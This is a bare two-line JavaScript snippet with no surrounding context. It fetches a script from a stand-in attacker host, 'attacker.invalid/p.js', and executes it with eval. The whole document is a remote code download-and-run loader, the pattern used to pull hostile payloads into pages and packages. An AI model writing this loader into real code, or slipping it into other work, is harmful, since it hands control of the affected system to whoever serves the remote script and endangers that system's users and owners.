const url = "https://attacker.invalid/p.js";
eval(await (await fetch(url)).text());
